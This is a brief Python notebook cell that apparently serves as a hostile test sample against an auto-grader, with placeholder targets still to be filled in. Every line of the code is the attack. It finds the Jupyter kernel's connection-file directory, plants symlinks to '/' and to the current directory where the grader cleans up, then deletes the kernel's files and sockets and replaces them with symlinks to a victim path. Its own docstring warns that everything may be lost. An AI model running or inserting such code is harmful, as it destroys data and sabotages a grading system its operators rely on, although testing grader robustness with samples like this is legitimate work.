"""Puts links and files where the grader cleans up, and in place of the sockets that it talks to.

may lose: everything
"""

# %% last
import os

from ipykernel.connect import get_connection_file

_kernel = get_ipython().kernel
for _place in {os.path.dirname(get_connection_file()), os.path.dirname(_kernel.parent.ip)}:
    for _name, _target in (("link", "@CLASS@"), ("loop", "."), ("root", "/")):
        try:
            os.symlink(_target, os.path.join(_place, _name))
        except OSError:
            pass
    for _name in os.listdir(_place):
        try:
            os.unlink(os.path.join(_place, _name))
            os.symlink("@VICTIM@", os.path.join(_place, _name))
        except OSError:
            pass
